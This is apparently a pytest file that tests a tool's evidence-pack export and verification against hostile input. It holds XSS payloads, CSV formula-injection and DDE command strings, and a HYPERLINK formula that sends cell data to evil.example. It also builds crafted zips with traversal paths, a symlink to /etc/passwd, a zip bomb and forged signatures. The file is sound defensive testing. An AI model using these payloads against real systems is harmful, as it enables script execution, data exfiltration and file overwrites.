"""Hostile: evidence packs and their verifier facing input someone made to hurt the reader.

- script in the data (nicknames, comments, reasons) must never run in the pack's graph.html or report.html,
  nor in the app's graph component: browsers hover every node and watch for dialogs and injected elements;
- a signature must not be sidestepped: stripped and recomputed, re-signed with another key, an Ed25519
  signature on an HMAC-only configuration; signing is the default, with the installation's own key;
- hostile zips in `evidence verify`: a zip bomb, encrypted or unknown-method members, Windows `..\\` names,
  symbolic links, sizes that lie: each a `FAILED:` line, never a traceback, never the whole member in memory;
- formulas in CSV cells, and phone numbers or IPs inside free text, in packs and in the app.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import stat
import struct
import tracemalloc
import zipfile
from pathlib import Path

import pytest

import ringscope.commands.cli as cli
from ringscope.evidence.keys import HMAC_ENV, SIGNING_ENV, VERIFY_ENV, trusted_keys
from ringscope.evidence.manifest import (
    MANIFEST, SIGNATURE, ZIP_TIME, build_manifest, canonical, ed25519_signer, hmac_signer, manifest_digest,
    signature_document,
)
from ringscope.evidence.verify import verify_pack

KEY_VARIABLES = (HMAC_ENV, SIGNING_ENV, VERIFY_ENV)
SCRIPTS = {  # what a farm operator types into a nickname, a comment, a brand name ...
    "link": '<a href="#" id="injected-link">x</a>',
    "img": "<img src=x id=injected-img onerror=alert(2)>",
    "svg": "<svg onload=alert(3) id=injected-svg>",
    "script": "</script><script>alert(4)</script>",
    "bold": "<b id=injected-bold>bold</b>",
}
INJECTED = "#injected-link, #injected-img, #injected-svg, #injected-bold, img[src='x'], [onerror], [onload]"


@pytest.fixture(autouse=True)
def no_configured_keys(monkeypatch):
    for key in KEY_VARIABLES:
        monkeypatch.delenv(key, raising=False)


def ed25519_key():
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    return Ed25519PrivateKey.generate()


def write_public(key, path: Path) -> Path:
    from ringscope.evidence.keys import public_pem

    path.write_bytes(public_pem(key.public_key()))
    return path


def verify_cli(capsys, pack: Path, *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = cli.main(["evidence", "verify", str(pack), *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# --- packs made by hand: the format, without a database --------------------------------------------------------

FILES = {"report.html": b"<p>report</p>\n", "data/accounts.csv": b"account_id\nacc1\n"}


def manifest_for(files: dict[str, bytes], signer=None, **fields) -> bytes:
    return build_manifest(files=files, pack_id="pack-hostile", created_at="2025-07-01T00:00:00+00:00",
                          fields={"subject": {"kind": "cluster", "id": "k"}, **fields},
                          signature=signer.declaration() if signer else None)


def write_pack(path: Path, files: dict[str, bytes] = FILES, signer=None, *, listed: dict[str, bytes] | None = None,
               infos: dict[str, zipfile.ZipInfo] | None = None, manifest: bytes | None = None) -> Path:
    """A pack: ``files`` in the zip, ``listed`` (default the same) in its manifest, signed by ``signer``."""
    manifest = manifest or manifest_for(files if listed is None else listed, signer)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            info = (infos or {}).get(name) or zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = info.compress_type or zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
        archive.writestr(zipfile.ZipInfo(MANIFEST, date_time=ZIP_TIME), manifest)
        if signer:
            archive.writestr(zipfile.ZipInfo(SIGNATURE, date_time=ZIP_TIME), signature_document(signer, manifest))
    return path


def patch_headers(path: Path, name: str, *, flags: int | None = None, method: int | None = None,
                  size: int | None = None) -> None:
    """Rewrite fields of a member's local and central headers, as a hand-made hostile zip would have them."""
    data = bytearray(path.read_bytes())
    encoded = name.encode("utf-8")
    for signature, fields in ((b"PK\x03\x04", {"length": 26, "name": 30, "flags": 6, "method": 8, "size": 22}),
                              (b"PK\x01\x02", {"length": 28, "name": 46, "flags": 8, "method": 10, "size": 24})):
        name_at = fields["name"]
        at = data.find(signature)
        while at != -1:
            length = struct.unpack_from("<H", data, at + fields["length"])[0]
            if bytes(data[at + name_at:at + name_at + length]) == encoded:
                if flags is not None:
                    struct.pack_into("<H", data, at + fields["flags"], flags)
                if method is not None:
                    struct.pack_into("<H", data, at + fields["method"], method)
                if size is not None:
                    struct.pack_into("<I", data, at + fields["size"], size)
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))


def assert_failed(capsys, pack: Path, *words: str) -> str:
    code, out, err = verify_cli(capsys, pack)
    assert code == 1, out
    assert "Traceback" not in out + err
    lines = out.strip().splitlines()
    assert lines and all(line.startswith("FAILED: ") for line in lines), out
    for word in words:
        assert word in out, out
    return out


# --- item 8: hostile zips ----------------------------------------------------------------------------------------

BOMB, MEBIBYTE = "data/comments.csv", b"\0" * (1 << 20)


def add_bomb(pack: Path) -> None:
    """400 MB of zeros, deflated to 400 KB, streamed into the zip."""
    info = zipfile.ZipInfo(BOMB, date_time=ZIP_TIME)
    info.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(pack, "a") as archive, archive.open(info, "w", force_zip64=True) as member:
        for _ in range(400):
            member.write(MEBIBYTE)


def peak_memory(pack: Path):
    tracemalloc.start()
    try:
        result = verify_pack(pack)
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_zip_bomb_is_hashed_in_chunks_never_read_whole(tmp_path):
    """400 KB of zip, 400 MB of member: verifying it used to take 840 MB of memory."""
    digest = hashlib.sha256()
    for _ in range(400):
        digest.update(MEBIBYTE)
    manifest = json.loads(manifest_for(FILES))
    manifest["files"].append({"path": BOMB, "sha256": digest.hexdigest(), "bytes": 400 << 20})
    manifest["manifest_digest"] = manifest_digest(manifest)
    declared = write_pack(tmp_path / "declared.zip", manifest=canonical(manifest))
    add_bomb(declared)
    assert declared.stat().st_size < 1 << 20
    result, peak = peak_memory(declared)  # listed with its true size and hash: hashed in chunks
    assert result.ok, result.problems
    assert peak < 32 << 20, f"verifying took {peak / 2 ** 20:.0f} MiB"

    unlisted = write_pack(tmp_path / "unlisted.zip")
    add_bomb(unlisted)
    result, peak = peak_memory(unlisted)  # not listed: reported without being read at all
    assert result.problems == [f"{BOMB}: in the pack but not listed in the manifest (added)"]
    assert peak < 32 << 20, f"verifying took {peak / 2 ** 20:.0f} MiB"


def test_a_member_larger_than_the_manifest_says_is_not_read_past_it(tmp_path, capsys):
    files = {**FILES, "data/comments.csv": b"x" * 100_000}
    pack = write_pack(tmp_path / "lying.zip", files, listed={**FILES, "data/comments.csv": b"x" * 10})
    assert_failed(capsys, pack, "data/comments.csv: changed (the zip says 100,000 bytes, the manifest 10)")
    pack = write_pack(tmp_path / "header.zip", files, listed={**FILES, "data/comments.csv": b"x" * 100})
    patch_headers(pack, "data/comments.csv", size=100)  # the zip's own header lies too
    assert_failed(capsys, pack, "data/comments.csv: ")
    manifest = json.loads(manifest_for(FILES))
    manifest["files"][0]["bytes"] = 5 << 30
    manifest["manifest_digest"] = manifest_digest(manifest)
    pack = write_pack(tmp_path / "huge.zip", manifest=canonical(manifest))
    assert_failed(capsys, pack, "data/accounts.csv: the manifest declares 5,368,709,120 bytes")


@pytest.mark.parametrize("patch,words", [
    ({"flags": 0x1}, ["data/accounts.csv: encrypted (packs are never encrypted)"]),
    ({"method": 99}, ["data/accounts.csv: compressed with method 99"]),
    ({"method": 14}, ["data/accounts.csv: compressed with method 14"]),  # LZMA: readable, never written by us
])
def test_encrypted_and_unknown_method_members_fail_without_a_traceback(tmp_path, capsys, patch, words):
    pack = write_pack(tmp_path / "member.zip")
    patch_headers(pack, "data/accounts.csv", **patch)
    assert_failed(capsys, pack, *words)


@pytest.mark.parametrize("name,why", [
    ("..\\..\\evil.bat", "a backslash in the name"),
    ("data\\..\\..\\evil.bat", "a backslash in the name"),
    ("C:/Windows/evil.bat", "a drive letter"),
    ("/etc/cron.d/evil", "an absolute path"),
    ("data/../../evil", "a '..' in the path"),
    ("data//evil", "an empty or '.' path segment"),
    ("data/evil\x00.csv", "a control character"),
])
def test_unsafe_names_fail_even_when_the_manifest_lists_them(tmp_path, capsys, name, why):
    files = {**FILES, name: b"echo owned\n"}
    pack = write_pack(tmp_path / "names.zip", files)  # the manifest was recomputed to list the file
    out = assert_failed(capsys, pack, "unsafe path", why)
    assert not verify_pack(pack).ok and out.count("FAILED") >= 1


def test_symbolic_links_and_other_file_types_fail(tmp_path, capsys):
    link = zipfile.ZipInfo("data/accounts.csv", date_time=ZIP_TIME)
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    files = {"report.html": FILES["report.html"], "data/accounts.csv": b"/etc/passwd"}
    pack = write_pack(tmp_path / "link.zip", files, infos={"data/accounts.csv": link})
    assert_failed(capsys, pack, "data/accounts.csv: a symbolic link")
    fifo = zipfile.ZipInfo("data/accounts.csv", date_time=ZIP_TIME)
    fifo.create_system = 3
    fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
    pack = write_pack(tmp_path / "fifo.zip", files, infos={"data/accounts.csv": fifo})
    assert_failed(capsys, pack, "data/accounts.csv: not a regular file")


def test_a_corrupted_member_and_a_truncated_zip_are_failed_lines(tmp_path, capsys):
    pack = write_pack(tmp_path / "ok.zip")
    data = bytearray(pack.read_bytes())
    at = data.find(b"PK\x03\x04", data.find(b"data/accounts.csv"))  # the first member's data follows its name
    start = data.find(b"data/accounts.csv") + len("data/accounts.csv")
    data[start:start + 4] = b"\xff\xff\xff\xff"
    corrupted = tmp_path / "corrupted.zip"
    corrupted.write_bytes(bytes(data))
    assert_failed(capsys, corrupted, "data/accounts.csv: ")
    truncated = tmp_path / "truncated.zip"
    truncated.write_bytes(pack.read_bytes()[: at if at > 0 else 40])
    assert_failed(capsys, truncated)
    assert not verify_pack(tmp_path / "nowhere.zip").ok


def test_a_manifest_too_big_for_a_manifest_is_not_read(tmp_path, capsys, monkeypatch):
    import ringscope.evidence.verify as verify_module

    monkeypatch.setattr(verify_module, "MAX_MANIFEST_BYTES", 1000)
    pack = write_pack(tmp_path / "fat.zip", manifest=manifest_for(FILES, padding="x" * 5000))
    assert_failed(capsys, pack, f"{MANIFEST}: ")


# --- item 4: signatures ----------------------------------------------------------------------------------------

def test_a_stripped_signature_with_a_recomputed_manifest_fails_against_a_trusted_key(tmp_path, capsys):
    key = ed25519_key()
    public = write_public(key, tmp_path / "exporter.pub.pem")
    genuine = write_pack(tmp_path / "genuine.zip", signer=ed25519_signer(key))
    code, out, _ = verify_cli(capsys, genuine, "--key", str(public))
    assert code == 0 and out.startswith("ok: signature verified against a trusted key: Ed25519 key")

    forged_files = {**FILES, "data/accounts.csv": b"account_id\nsomeone_else\n"}
    stripped = write_pack(tmp_path / "stripped.zip", forged_files)  # no signature, manifest recomputed
    code, out, _ = verify_cli(capsys, stripped, "--key", str(public))
    assert code == 1 and out.startswith(f"FAILED: {MANIFEST}: the pack is not signed, but a trusted key is given")
    code, out, _ = verify_cli(capsys, stripped)  # nobody to trust: exit 0, but it says so
    assert code == 0 and out.startswith("ok: the pack is NOT SIGNED")


def test_a_pack_re_signed_with_another_key_is_consistent_but_not_trusted(tmp_path, capsys):
    exporter, forger = ed25519_key(), ed25519_key()
    public = write_public(exporter, tmp_path / "exporter.pub.pem")
    forged = write_pack(tmp_path / "forged.zip", {**FILES, "report.html": b"<p>innocent</p>\n"},
                        signer=ed25519_signer(forger))
    forger_id = ed25519_signer(forger).key_id
    code, out, _ = verify_cli(capsys, forged)
    assert code == 0 and out.startswith("ok: ") and len(out.strip().splitlines()) == 1
    assert f"key {forger_id}) was checked only against the public key inside the pack, NOT against a trusted " \
           "key" in out
    code, out, _ = verify_cli(capsys, forged, "--key", str(public))
    assert code == 1 and f"FAILED: {SIGNATURE}: signed with Ed25519 key {forger_id}, not by a trusted key" in out


def test_an_ed25519_signature_is_never_accepted_on_an_hmac_only_configuration(tmp_path, capsys, monkeypatch):
    forged = write_pack(tmp_path / "forged.zip", signer=ed25519_signer(ed25519_key()))
    monkeypatch.setenv(HMAC_ENV, "team-secret")
    code, out, _ = verify_cli(capsys, forged)
    assert code == 1 and "no trusted Ed25519 key is given (trusted: HMAC-SHA256 key" in out
    hmac_pack = write_pack(tmp_path / "hmac.zip", signer=hmac_signer(b"team-secret"))
    code, out, _ = verify_cli(capsys, hmac_pack)
    assert code == 0 and out.startswith("ok: signature verified against a trusted key: HMAC-SHA256 key")
    key = ed25519_key()  # --key names the one key to trust: an HMAC signature is not by it
    code, out, _ = verify_cli(capsys, hmac_pack, "--key", str(write_public(key, tmp_path / "k.pem")))
    assert code == 1 and "no trusted HMAC-SHA256 key is given" in out


def test_a_wrong_signature_and_a_pack_key_that_does_not_match_its_id_fail(tmp_path, capsys):
    key = ed25519_key()
    signer = ed25519_signer(key)
    genuine = write_pack(tmp_path / "genuine.zip", signer=signer)
    with zipfile.ZipFile(genuine) as archive:
        signature = archive.read(SIGNATURE)
    edited = json.loads(manifest_for(FILES, signer))
    edited["subject"]["id"] = "another-cluster"
    edited["manifest_digest"] = manifest_digest(edited)
    wrong = tmp_path / "wrong.zip"
    write_pack(wrong, manifest=canonical(edited))
    with zipfile.ZipFile(wrong, "a") as archive:
        archive.writestr(SIGNATURE, signature)  # the old signature, for the new manifest
    for args in ((), ("--key", str(write_public(key, tmp_path / "k.pem")))):
        code, out, _ = verify_cli(capsys, wrong, *args)
        assert code == 1 and f"the Ed25519 signature does not match {MANIFEST}" in out

    other = ed25519_key()
    declaration = signer.declaration()
    declaration["public_key"] = ed25519_signer(other).public_key  # someone else's key, under our key id
    manifest = manifest_for(FILES)
    document = json.loads(manifest)
    document["signature"] = declaration
    document["manifest_digest"] = manifest_digest(document)
    raw = canonical(document)
    mixed = write_pack(tmp_path / "mixed.zip", manifest=raw)
    with zipfile.ZipFile(mixed, "a") as archive:
        archive.writestr(SIGNATURE, canonical({**declaration, "signature": base64.b64encode(
            other.sign(raw)).decode("ascii")}))
    code, out, _ = verify_cli(capsys, mixed)
    assert code == 1 and "does not have the declared key id" in out


def test_a_bad_key_file_is_one_line(tmp_path, capsys):
    pack = write_pack(tmp_path / "p.zip")
    (tmp_path / "not-a-key.pem").write_text("hello")
    code, out, err = verify_cli(capsys, pack, "--key", str(tmp_path / "not-a-key.pem"))
    assert code == 2 and err.startswith("ringscope: error: --key=") and len(err.strip().splitlines()) == 1
    code, out, err = verify_cli(capsys, pack, "--key", str(tmp_path / "absent.pem"))
    assert code == 2 and "cannot read the key file" in err


def test_trusted_keys_come_from_key_else_the_environment(tmp_path, monkeypatch):
    key = ed25519_key()
    public = write_public(key, tmp_path / "k.pem")
    monkeypatch.setenv(HMAC_ENV, "s")
    assert [k.algorithm for k in trusted_keys(key_file=public).keys] == ["ed25519"]
    monkeypatch.setenv(VERIFY_ENV, str(public))
    assert [k.algorithm for k in trusted_keys().keys] == ["ed25519", "hmac-sha256"]


# --- item 4, with the database: signing is the default ------------------------------------------------------

def test_exports_are_signed_by_default_with_the_installations_own_key(world, tmp_path, monkeypatch, capsys):
    from ringscope.auth.roles import Actor
    from ringscope.evidence.export import export_pack
    from ringscope.evidence.records import Subject
    from tests.evidence.conftest import CLUSTER_ID

    home = tmp_path / "home"
    monkeypatch.setenv("RINGSCOPE_HOME", str(home))
    first, second = tmp_path / "a.zip", tmp_path / "b.zip"
    export_pack(world, Subject("cluster", CLUSTER_ID), first, Actor("alice", "investigator"))
    private = home / "keys" / "evidence-signing.pem"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600 and stat.S_IMODE(private.parent.stat().st_mode) == 0o700
    export_pack(world, Subject("cluster", CLUSTER_ID), second, Actor("alice", "investigator"))
    declared = [json.loads(zipfile.ZipFile(p).read(MANIFEST))["signature"] for p in (first, second)]
    assert declared[0] == declared[1] and declared[0]["algorithm"] == "ed25519" and declared[0]["public_key"]

    capsys.readouterr()
    assert cli.main(["evidence", "key"]) == 0
    captured = capsys.readouterr()
    assert captured.out.startswith("-----BEGIN PUBLIC KEY-----") and declared[0]["key_id"] in captured.err
    published = tmp_path / "published.pem"
    published.write_text(captured.out)
    code, out, _ = verify_cli(capsys, first, "--key", str(published))
    assert code == 0 and out.startswith(f"ok: signature verified against a trusted key: Ed25519 key "
                                        f"{declared[0]['key_id']} (--key {published})")
    code, out, _ = verify_cli(capsys, first)
    assert code == 0 and "checked only against the public key inside the pack" in out

    private.chmod(0o644)  # a key others can read is refused, as ssh does
    assert cli.main(["evidence", "key"]) == 2
    assert "readable by others" in capsys.readouterr().err


def test_environment_keys_still_override_the_installations(world, tmp_path, monkeypatch, capsys):
    from cryptography.hazmat.primitives import serialization

    from ringscope.auth.roles import Actor
    from ringscope.evidence.export import export_pack
    from ringscope.evidence.records import Subject
    from tests.evidence.conftest import CLUSTER_ID

    monkeypatch.setenv("RINGSCOPE_HOME", str(tmp_path / "home"))
    key = ed25519_key()
    (tmp_path / "team.pem").write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                                          serialization.PrivateFormat.PKCS8,
                                                          serialization.NoEncryption()))
    monkeypatch.setenv(SIGNING_ENV, str(tmp_path / "team.pem"))
    out = tmp_path / "team.zip"
    result = export_pack(world, Subject("cluster", CLUSTER_ID), out, Actor("alice", "investigator"))
    assert result.signature == "ed25519"
    assert json.loads(zipfile.ZipFile(out).read(MANIFEST))["signature"]["key_id"] == ed25519_signer(key).key_id
    assert not (tmp_path / "home" / "keys").exists()
    capsys.readouterr()
    assert cli.main(["evidence", "key"]) == 0 and capsys.readouterr().out.encode() == write_public(
        key, tmp_path / "p.pem").read_bytes()
    monkeypatch.delenv(SIGNING_ENV)
    monkeypatch.setenv(HMAC_ENV, "shared")
    result = export_pack(world, Subject("cluster", CLUSTER_ID), out, Actor("alice", "investigator"))
    assert result.signature == "hmac-sha256"
    assert cli.main(["evidence", "key"]) == 0 and "exports are signed with HMAC-SHA256" in capsys.readouterr().err


# --- item 2: script in the data ----------------------------------------------------------------------------

HOSTILE_WORLD = """
MATCH (a:Account) WHERE a.account_id IN $accounts
WITH a ORDER BY a.account_id
WITH collect(a) AS accounts
FOREACH (i IN range(0, size($names) - 1) | SET (accounts[i]).nickname = $names[i])
WITH accounts
MATCH (b:Brand {brand_id: 'brand-1'}) SET b.name = $brand
WITH accounts
MATCH (i:Intermediary {intermediary_id: 'mcn-1'}) SET i.name = $agency
WITH accounts
MATCH (c:Comment) WHERE c.account_id = accounts[0].account_id SET c.text = $comment
WITH accounts
MATCH (s:Sanction {sanction_id: 'sanc-2'}) SET s.reason = $reason
"""
FORMULAS = {"nickname": '=HYPERLINK("http://evil.example/?"&A1,"click")', "comment": "+cmd|' /C calc'!A0",
            "reason": "@SUM(1+1)*cmd|' /C calc'!A0", "agency": "-2+3+cmd|' /C calc'!A0", "tab": "\t=1+1"}
PRIVATE_TEXT = "加我192.168.1.7谢谢 或者打 13812345678，V信同号"


def hostile_world(graph):
    from tests.evidence.conftest import MEMBERS, build_world

    build_world(graph)
    names = [*SCRIPTS.values(), FORMULAS["nickname"], FORMULAS["tab"], PRIVATE_TEXT]
    graph.write(HOSTILE_WORLD, accounts=MEMBERS, names=names, brand=SCRIPTS["img"],
                agency=FORMULAS["agency"], comment=FORMULAS["comment"] + " " + SCRIPTS["svg"] + PRIVATE_TEXT,
                reason=FORMULAS["reason"] + SCRIPTS["bold"])
    return graph


@pytest.fixture
def hostile(graph):
    return hostile_world(graph)


@pytest.fixture
def world(graph):
    from tests.evidence.conftest import build_world

    build_world(graph)
    return graph


def export_hostile(graph, out: Path, unmasked: bool = False) -> dict[str, bytes]:
    from ringscope.auth.roles import Actor
    from ringscope.evidence.export import export_pack
    from ringscope.evidence.records import Subject
    from tests.evidence.conftest import CLUSTER_ID

    actor = Actor("bob", "approver") if unmasked else Actor("alice", "investigator")
    export_pack(graph, Subject("cluster", CLUSTER_ID), out, actor, unmasked=unmasked, signer=None)
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_graph_html_never_uses_the_innerhtml_tooltip():
    """pyvis shows titles with innerHTML as soon as one contains 'href'; the pack's page must never do that."""
    from ringscope.evidence.graphs import GraphNode, interactive_html, make_graph, select_view

    nodes = [GraphNode(f"Account:a{i}", "Account", f"a{i}", {"nickname": text})
             for i, text in enumerate(SCRIPTS.values())]
    view = select_view(make_graph(nodes, [], [n.id for n in nodes]), 600)
    page = interactive_html(view, SCRIPTS["script"], SCRIPTS["img"]).decode("utf-8")
    assert "popup.innerHTML" not in page and 'network.on("showPopup"' not in page
    assert SCRIPTS["img"] not in page and SCRIPTS["script"] not in page  # in JSON and escaped HTML only
    assert "&lt;img src=x id=injected-img onerror=alert(2)&gt;" in page


def hover_every_node(page, network: str) -> list[str]:
    """Move the mouse onto every node of the vis network ``network`` (a JS expression) and wait until the
    tooltip shows that node's title, as text; the tooltips seen."""
    page.evaluate(f"() => {network}.setOptions({{interaction: {{tooltipDelay: 0}}}})")  # no 300 ms per node
    ids = page.evaluate(f"() => {network}.body.data.nodes.getIds()")
    assert ids, "no node drawn"
    seen = []
    for node in ids:
        point = page.evaluate(f"""(id) => {{
            const net = {network};
            net.moveTo({{position: net.getPosition(id), scale: 1.5, animation: false}});
            const box = net.canvas.frame.canvas.getBoundingClientRect();
            const p = net.canvasToDOM(net.getPosition(id));
            return {{x: box.left + p.x, y: box.top + p.y}};
        }}""", node)
        page.mouse.move(2, 2)
        page.mouse.move(point["x"], point["y"], steps=2)
        page.wait_for_function(rf"""(id) => {{
            const tip = document.querySelector('.vis-tooltip');
            const title = {network}.body.data.nodes.get(id).title;
            const text = (t) => String(t).replace(/\s+/g, ' ').trim();  // as rendered: a tab is a space
            return tip && tip.style.visibility !== 'hidden' && text(tip.innerText) === text(title);
        }}""", arg=node, timeout=5_000)
        seen.append(page.inner_text(".vis-tooltip"))
    return seen


def watch(page) -> list[str]:
    dialogs: list[str] = []

    def on_dialog(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    return dialogs


@pytest.mark.e2e
@pytest.mark.slow
def test_no_script_runs_in_a_pack_built_from_hostile_data(hostile, browser, tmp_path):
    files = export_hostile(hostile, tmp_path / "pack.zip")
    folder = tmp_path / "opened"
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    page = browser.new_page(viewport={"width": 1400, "height": 1300})
    dialogs = watch(page)
    try:
        page.goto((folder / "graph" / "graph.html").as_uri())
        page.wait_for_function("() => typeof network !== 'undefined' && network.body.data.nodes.length > 0")
        seen = hover_every_node(page, "network")
        tooltips = "\n".join(seen)
        assert SCRIPTS["img"] in tooltips and SCRIPTS["link"] in tooltips  # hovered, and shown as text
        page.goto((folder / "report.html").as_uri())
        page.wait_for_timeout(500)
        assert SCRIPTS["bold"] in page.inner_text("body")
        assert page.locator(INJECTED).count() == 0
    finally:
        page.close()
    assert dialogs == []


@pytest.mark.e2e
def test_no_script_runs_in_the_apps_graph_component(browser, tmp_path):
    from ringscope.webapp.components.graph_view import CSS, bundle

    nodes = [{"id": f"t{i}", "label": text, "title": f"Account {text}\nflagged", "shape": "dot", "size": 14,
              "color": "#d62728", "x": (i % 3) * 150, "y": (i // 3) * 150}
             for i, text in enumerate(SCRIPTS.values())]
    data = {"graph_id": "g1", "nodes": nodes, "edges": [{"id": "e1", "from": "t0", "to": "t1", "title": SCRIPTS["img"]}],
            "legend": [{"text": text, "color": "#9aa4b2", "shape": "dot"} for text in SCRIPTS.values()],
            "height": 500, "focus": None, "focus_seq": 0}
    script = bundle().replace("export default function", "window.__rsMount = function", 1)
    page = browser.new_page(viewport={"width": 1200, "height": 900})
    dialogs = watch(page)
    try:
        page.set_content(f"<html><head><style>{CSS}</style></head><body><div id='host'></div></body></html>")
        page.add_script_tag(content=script)
        page.evaluate("(data) => window.__rsMount({data, parentElement: document.getElementById('host'), "
                      "setTriggerValue: () => {}})", data)
        page.wait_for_selector(".rs-graph[data-ready='true']")
        seen = hover_every_node(page, "window.__ringscopeGraph.network")
        assert SCRIPTS["img"] in "\n".join(seen)
        legend = page.inner_text(".rs-legend")
        assert all(text in legend for text in SCRIPTS.values())
        assert page.locator(INJECTED).count() == 0
    finally:
        page.close()
    assert dialogs == []


# --- item 9: formulas in CSV cells, personal data in free text -----------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def test_no_cell_of_a_packs_csv_files_starts_a_formula(hostile, tmp_path):
    files = export_hostile(hostile, tmp_path / "pack.zip")
    tables = {name: cells(data) for name, data in files.items() if name.endswith(".csv")}
    assert set(tables) >= {"data/accounts.csv", "data/comments.csv", "sanctions/sanctions.csv", "graph/nodes.csv"}
    for name, rows in tables.items():
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START), f"{name}: {cell!r}"
    every = "\n".join(",".join(r) for rows in tables.values() for r in rows)
    assert "'" + FORMULAS["nickname"] in every and "'" + FORMULAS["tab"] in every
    assert "'" + FORMULAS["comment"] in every and "'" + FORMULAS["reason"] in every
    accounts = tables["data/accounts.csv"]
    score = accounts[0].index("risk_score")
    assert all(float(row[score]) > 0 for row in accounts[1:])  # numbers stay numbers
    sanctions = json.loads(files["sanctions/sanctions.json"])  # JSON keeps the exact text
    assert any(s["reason"] == FORMULAS["reason"] + SCRIPTS["bold"] for s in sanctions)


def test_phone_numbers_and_ips_in_free_text_are_masked_in_every_file(hostile, tmp_path):
    files = export_hostile(hostile, tmp_path / "masked.zip")
    for name, data in files.items():
        text = data.decode("utf-8", errors="replace")
        assert "13812345678" not in text and "192.168.1.7" not in text, name
    comments = files["data/comments.csv"].decode("utf-8")
    assert "加我192.168.x.x谢谢" in comments and "138********" in comments
    nicknames = files["data/accounts.csv"].decode("utf-8")
    assert "加我192.168.x.x谢谢 或者打 138********" in nicknames
    unmasked = export_hostile(hostile, tmp_path / "unmasked.zip", unmasked=True)
    assert PRIVATE_TEXT in unmasked["data/comments.csv"].decode("utf-8")


def test_the_app_masks_phone_numbers_and_ips_in_free_text_for_the_role(hostile):
    from ringscope.auth.masking import mask_properties, render_reason
    from ringscope.auth.roles import Actor
    from ringscope.queries.neighbours import GraphNode
    from ringscope.webapp.state import display_caption

    viewer, approver = Actor("vic", "viewer"), Actor("abe", "approver")
    props = hostile.read("MATCH (a:Account {nickname: $n}) RETURN a {.*} AS a", n=PRIVATE_TEXT)[0]["a"]
    assert "13812345678" not in str(mask_properties(props, viewer)) and "192.168.x.x" in str(
        mask_properties(props, Actor("ivy", "investigator")))
    assert mask_properties(props, approver)["nickname"] == PRIVATE_TEXT
    assert render_reason(PRIVATE_TEXT, viewer) == "加我192.168.x.x谢谢 或者打 138********，V信同号"
    node = GraphNode(label="Account", key="acc", caption="138 1234 5678", status="clean", score=None)
    assert display_caption(node, viewer) == "138********" and display_caption(node, approver) == "138 1234 5678"
